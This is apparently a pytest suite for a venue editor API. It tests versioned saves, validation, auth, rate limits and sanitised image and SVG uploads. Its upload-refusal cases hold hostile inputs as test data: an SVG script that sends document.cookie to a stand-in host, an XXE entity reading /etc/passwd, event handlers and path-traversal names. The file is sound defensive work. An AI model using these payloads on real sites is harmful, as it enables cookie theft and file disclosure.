"""The venue editor's API: PUT /api/v1/venue (checked, versioned, If-Match), POST
/api/v1/venue/images (re-encoded, bounded, SVG sanitised), GET /venue/<file>; every refusal
is a 4xx that says why and changes nothing on disk."""

# ruff: noqa: E501 - tables of cases read best one per line

from __future__ import annotations

import io
import json
from pathlib import Path

import jsonschema
import pytest
from PIL import Image

from tests.unit.venue.plans import HOSTILE_SVG, drawing, png_claiming, with_exif
from webapp import create_app

TOKEN = "s3cret-Organizer-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
ROOT = Path(__file__).parents[3]
OPENAPI = json.loads((ROOT / "webapp/schemas/openapi.json").read_text(encoding="utf-8"))
DOC = {
    "name": "Test venue",
    "floors": [{"id": "ground", "name": "Ground floor", "width": 100, "height": 50}],
    "rooms": [{"id": "main", "floor": "ground", "shape": {"rect": [5, 5, 30, 20]}}],
}


@pytest.fixture
def app(data_dir: Path):
    return create_app(
        {"TESTING": True, "DATA_DIR": str(data_dir), "ADMIN_TOKEN": TOKEN, "WRITE_RATE_LIMIT": 0}
    )


def on_disk(data_dir: Path) -> dict[str, bytes]:
    """Every file the venue is kept in (the lock file aside: it holds nothing)."""
    files = (
        [data_dir / "venue.json", *(data_dir / "venue").rglob("*")]
        if (data_dir / "venue").exists()
        else [data_dir / "venue.json"]
    )
    return {str(p.relative_to(data_dir)): p.read_bytes() for p in files if p.is_file() and p.name != ".lock"}


def put(client, doc, version: int | None = 0, headers: dict[str, str] | None = None):
    head = {**AUTH, **({} if version is None else {"If-Match": f'"{version}"'}), **(headers or {})}
    return client.put(
        "/api/v1/venue", data=json.dumps(doc), headers={"Content-Type": "application/json", **head}
    )


def upload(client, body: bytes, kind: str, headers: dict[str, str] | None = None, query: str = ""):
    return client.post(
        f"/api/v1/venue/images{query}", data=body, headers={**AUTH, "Content-Type": kind, **(headers or {})}
    )


def venue_version(client) -> int:
    return client.get("/api/v1/venue.json").get_json()["version"]


def test_saving_the_venue_bumps_its_version_keeps_the_one_before_and_serves_the_new_one(client, data_dir):
    assert venue_version(client) == 0
    first = put(client, DOC, 0)
    assert (first.status_code, first.get_json()) == (200, {"version": 1})
    renamed = {**DOC, "floors": [{**DOC["floors"][0], "name": "Level 0"}]}
    second = put(client, renamed, 1)
    assert (second.status_code, second.get_json()) == (200, {"version": 2})
    served = client.get("/api/v1/venue.json").get_json()
    assert (served["version"], served["floors"][0]["name"]) == (2, "Level 0")
    assert [r["floor"] for r in served["rooms"] if r["id"] == "main"] == ["ground"]
    kept = json.loads((data_dir / "venue" / "history" / "venue.1.json").read_text(encoding="utf-8"))
    assert kept["floors"][0]["name"] == "Ground floor"


def test_a_hand_edit_of_venue_json_counts_as_a_new_version(client, data_dir):
    put(client, DOC, 0)
    (data_dir / "venue.json").write_text(json.dumps({**DOC, "name": "Edited by hand"}), encoding="utf-8")
    assert venue_version(client) == 2
    assert put(client, DOC, 1).status_code == 412  # the hand edit is not lost either
    assert put(client, DOC, 2).get_json() == {"version": 3}


@pytest.mark.parametrize(
    ("version", "headers", "status", "says"),
    [
        (None, {}, 428, "If-Match"),
        (None, {"If-Match": "3"}, 400, "in quotes"),
        (None, {"If-Match": "*"}, 400, "in quotes"),
        (5, {}, 412, "version 1"),
        (0, {}, 412, "version 1"),
    ],
    ids=["missing", "unquoted", "star", "ahead", "stale"],
)
def test_a_save_without_the_version_it_started_from_is_refused(
    client, data_dir, version, headers, status, says
):
    put(client, DOC, 0)
    before = on_disk(data_dir)
    resp = put(client, {**DOC, "name": "Other"}, version, headers)
    assert resp.status_code == status
    assert says in resp.get_json()["error"]
    if status == 412:
        assert resp.get_json()["version"] == 1
    assert on_disk(data_dir) == before


@pytest.mark.parametrize(
    ("doc", "problem"),
    [
        ({"floors": []}, "non-empty list"),
        (
            {**DOC, "rooms": [{"id": "nowhere", "floor": "ground", "shape": {"rect": [1, 1, 2, 2]}}]},
            "not a room of the schedule",
        ),
        (
            {**DOC, "rooms": [{"id": "main", "floor": "ground", "shape": {"rect": [90, 40, 30, 20]}}]},
            "outside the floor",
        ),
        ({**DOC, "colour": "red"}, "unknown key 'colour'"),
        (
            {"floors": [{"id": "a b", "name": "x", "width": 1, "height": 1}, {"id": "b", "name": "y"}]},
            "needs an id",
        ),
    ],
    ids=["no floors", "unknown room", "outside", "unknown key", "two problems"],
)
def test_a_venue_that_venue_check_would_refuse_is_422_with_its_problems_and_nothing_changes(
    client, data_dir, doc, problem
):
    put(client, DOC, 0)
    before = on_disk(data_dir)
    resp = put(client, doc, 1)
    assert resp.status_code == 422
    body = resp.get_json()
    assert any(problem in p for p in body["problems"]), body
    jsonschema.Draft202012Validator({**OPENAPI, "$ref": "#/components/schemas/VenueProblems"}).validate(body)
    assert on_disk(data_dir) == before
    assert venue_version(client) == 1


def test_every_problem_is_listed_not_only_the_first(client):
    doc = {"floors": [{"id": "a b", "name": "x"}, {"id": "b", "name": "y"}]}
    assert len(put(client, doc, 0).get_json()["problems"]) == 2


@pytest.mark.parametrize(
    ("body", "status"),
    [(b"{not json", 400), (b"x" * 2_000_001, 413)],
    ids=["not json", "too large"],
)
def test_a_body_that_is_not_a_venue_document_is_refused(client, data_dir, body, status):
    resp = client.put(
        "/api/v1/venue", data=body, headers={**AUTH, "If-Match": '"0"', "Content-Type": "application/json"}
    )
    assert resp.status_code == status
    assert on_disk(data_dir) == {}


@pytest.mark.parametrize(
    "headers",
    [{}, {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}],
    ids=["missing", "wrong", "no scheme"],
)
def test_a_wrong_token_writes_nothing(client, data_dir, headers):
    saved = client.put("/api/v1/venue", json=DOC, headers={"If-Match": '"0"', **headers})
    sent = client.post(
        "/api/v1/venue/images", data=drawing(), headers={"Content-Type": "image/png", **headers}
    )
    assert (saved.status_code, sent.status_code) == (401, 401)
    assert saved.headers["WWW-Authenticate"] == "Bearer"
    assert on_disk(data_dir) == {}


def test_the_venue_write_path_is_closed_without_an_admin_token(data_dir):
    client = create_app({"TESTING": True, "DATA_DIR": str(data_dir), "ADMIN_TOKEN": None}).test_client()
    assert put(client, DOC, 0).status_code == 403
    assert upload(client, drawing(), "image/png").status_code == 403
    assert on_disk(data_dir) == {}


def test_venue_writes_count_against_the_organizers_write_limit(data_dir):
    client = create_app(
        {"TESTING": True, "DATA_DIR": str(data_dir), "ADMIN_TOKEN": TOKEN, "WRITE_RATE_LIMIT": 2}
    ).test_client()
    assert put(client, DOC, 0).status_code == 200
    assert put(client, {"floors": []}, 1).status_code == 422  # refused: does not count
    assert upload(client, drawing(), "image/png").status_code == 201
    refused = put(client, DOC, 1)
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1


def test_a_png_is_re_encoded_and_served_from_its_content_addressed_name(client, data_dir):
    resp = upload(client, drawing(640, 400), "image/png")
    assert resp.status_code == 201
    answer = resp.get_json()
    assert (answer["width"], answer["height"]) == (640, 400)
    served = client.get(f"/venue/{answer['image']}")
    assert served.status_code == 200
    assert served.headers["Content-Type"] == "image/webp"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert "immutable" in served.headers["Cache-Control"]
    assert served.data != drawing(640, 400)
    assert Image.open(io.BytesIO(served.data)).size == (640, 400)
    again = client.get(f"/venue/{answer['image']}", headers={"If-None-Match": served.headers["ETag"]})
    assert again.status_code == 304


def test_a_large_plan_is_scaled_down_to_4096_pixels_on_its_longest_side(client):
    answer = upload(client, drawing(6000, 3000), "image/png").get_json()
    assert (answer["width"], answer["height"]) == (4096, 2048)


def test_re_encoding_drops_the_phones_exif_and_gps_position(client, data_dir):
    sent = with_exif()
    assert Image.open(io.BytesIO(sent)).getexif()  # the test's own file carries them
    answer = upload(client, sent, "image/jpeg").get_json()
    stored = client.get(f"/venue/{answer['image']}").data
    image = Image.open(io.BytesIO(stored))
    assert dict(image.getexif()) == {}
    assert not {"exif", "icc_profile", "xmp"} & set(image.info)
    assert b"PhoneMaker" not in stored and b"Secret Model" not in stored and b"Exif" not in stored


@pytest.mark.parametrize(
    ("body", "kind", "status", "says"),
    [
        (png_claiming(10_000, 10_000), "image/png", 422, "100 megapixels"),
        (png_claiming(30_000, 30_000), "image/png", 422, "megapixels"),
        (drawing(fmt="JPEG")[:1500], "image/jpeg", 422, "truncated"),
        (b"Just some text, not a picture", "image/png", 422, "not a readable PNG"),
        (drawing(fmt="JPEG"), "image/png", 422, "not a readable PNG"),
        (drawing(fmt="GIF"), "image/gif", 415, "image/png"),
        (drawing(), "text/plain", 415, "image/png"),
        (b"", "image/png", 400, "empty"),
        (HOSTILE_SVG, "image/svg+xml", 422, "<script>"),
        (HOSTILE_SVG.replace(b"<script>fetch('https://evil.example/'+document.cookie)</script>", b""), "image/svg+xml", 422, "<image>"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect onclick="x()" width="1" height="1"/></svg>', "image/svg+xml", 422, "onclick"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect fill="url(https://evil.example/#p)" width="1" height="1"/></svg>', "image/svg+xml", 422, "references"),
        (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;</text></svg>', "image/svg+xml", 422, "DOCTYPE"),
        (b"<svg", "image/svg+xml", 422, "not well-formed"),
    ],
    ids=["100 megapixels", "900 megapixels", "truncated jpeg", "not an image", "jpeg sent as png", "gif", "text", "empty",
         "svg script", "svg external image", "svg handler", "svg url()", "svg doctype", "svg broken"],
)  # fmt: skip
def test_a_hostile_or_unusable_upload_is_refused_with_a_clear_error_and_nothing_is_kept(
    client, data_dir, body, kind, status, says
):
    resp = upload(client, body, kind)
    assert resp.status_code == status, resp.get_json()
    assert says in resp.get_json()["error"]
    assert on_disk(data_dir) == {}


def test_a_body_over_the_limit_is_refused_before_it_is_read(data_dir):
    app = create_app(
        {"TESTING": True, "DATA_DIR": str(data_dir), "ADMIN_TOKEN": TOKEN, "MAX_VENUE_IMAGE_BYTES": 1000}
    )
    resp = upload(app.test_client(), drawing(), "image/png")
    assert resp.status_code == 413
    assert "larger than" in resp.get_json()["error"]
    assert on_disk(data_dir) == {}


def test_an_svg_plan_is_stored_sanitised_and_a_venue_can_use_it(client, data_dir):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50"><g fill="#eee"><rect data-room="main" x="1" y="1" width="20" height="20"/><text x="3" y="9">Main &amp; more</text></g><metadata>x</metadata></svg>'
    resp = upload(client, svg, "image/svg+xml")
    assert resp.status_code == 201
    answer = resp.get_json()
    assert (answer["viewBox"], answer["rooms"]) == ([0, 0, 100, 50], ["main"])
    stored = (data_dir / "venue" / answer["svg"]).read_text(encoding="utf-8")
    assert "metadata" not in stored and "Main &amp; more" in stored
    doc = {
        "floors": [{"id": "g", "name": "Ground", "svg": answer["svg"]}],
        "rooms": [{"id": "main", "floor": "g"}],
    }
    assert put(client, doc, 0).status_code == 200
    served = client.get("/api/v1/venue.json").get_json()
    assert served["floors"][0]["drawing"][0]["children"][0]["room"] == "main"
    assert (
        client.get(f"/venue/{answer['svg']}").status_code == 404
    )  # drawn from venue.json, never served as a file


@pytest.mark.parametrize(
    "name",
    [
        "schedule.json",
        "../schedule.json",
        "venue.json",
        "plan-0123456789abcdef.webp",
        "version.json",
        "plan-xyz.webp",
    ],
)
def test_only_plan_images_the_server_wrote_are_served(client, data_dir, name):
    (data_dir / "venue").mkdir(exist_ok=True)
    (data_dir / "venue" / "version.json").write_text("{}", encoding="utf-8")
    (data_dir / "venue" / "plan-0123456789abcdef.webp").write_bytes(
        b"<html><script>alert(1)</script>"
    )  # not its hash
    assert client.get(f"/venue/{name}").status_code == 404


def test_the_changes_feed_tells_phones_the_venues_version_and_its_etag_changes_with_it(client):
    before = client.get("/api/v1/changes?since=0")
    assert before.get_json()["venue"] == 0
    put(client, DOC, 0)
    after = client.get("/api/v1/changes?since=0", headers={"If-None-Match": before.headers["ETag"]})
    assert after.status_code == 200  # not a 304: a phone polling with its ETag learns of the new venue
    assert after.get_json()["venue"] == 1
    assert after.headers["ETag"] != before.headers["ETag"]
    validator = jsonschema.Draft202012Validator({**OPENAPI, "$ref": "#/components/schemas/Changes"})
    validator.validate(after.get_json())
    jsonschema.Draft202012Validator({**OPENAPI, "$ref": "#/components/schemas/Venue"}).validate(
        client.get("/api/v1/venue.json").get_json()
    )


def test_a_pdf_page_is_drawn_to_a_plan_and_a_missing_page_is_refused(client, data_dir):
    pdf = drawing(600, 300, fmt="PDF")  # Pillow writes the drawing as a one-page PDF (at 72 dpi)
    answer = upload(client, pdf, "application/pdf", query="?page=1").get_json()
    assert answer["width"] == 4096 and abs(answer["height"] - 2048) <= 1  # drawn sharp, then bounded
    assert Image.open(io.BytesIO(client.get(f"/venue/{answer['image']}").data)).format == "WEBP"
    kept = on_disk(data_dir)
    missing = upload(client, pdf, "application/pdf", query="?page=2")
    assert missing.status_code == 422 and "the PDF has 1 page" in missing.get_json()["error"]
    broken = upload(client, pdf[:200], "application/pdf")
    assert broken.status_code == 422 and "not a readable PDF" in broken.get_json()["error"]
    assert on_disk(data_dir) == kept


def test_a_floor_drawn_on_an_uploaded_image_takes_its_pixels_as_its_plan(client):
    name = upload(client, drawing(640, 400), "image/png").get_json()["image"]
    doc = {
        "floors": [{"id": "g", "name": "Ground", "image": name}],
        "rooms": [{"id": "main", "floor": "g", "shape": {"rect": [20, 20, 300, 180]}}],
    }
    assert put(client, doc, 0).status_code == 200
    floor = client.get("/api/v1/venue.json").get_json()["floors"][0]
    assert (floor["image"], floor["viewBox"]) == (f"/venue/{name}", [0, 0, 640, 400])
    assert client.get(floor["image"]).status_code == 200


@pytest.mark.parametrize(
    ("image", "problem"),
    [
        ("plan-0123456789abcdef.webp", "No such file"),
        ("k3.png", "not a plan the server wrote"),
        ("../schedule.json", "image must be"),
    ],
    ids=["never uploaded", "not a server name", "outside"],
)
def test_a_floor_image_the_server_did_not_write_is_a_problem(client, image, problem):
    doc = {"floors": [{"id": "g", "name": "Ground", "image": image}]}
    resp = put(client, doc, 0)
    assert resp.status_code == 422
    assert any(problem in p for p in resp.get_json()["problems"]), resp.get_json()
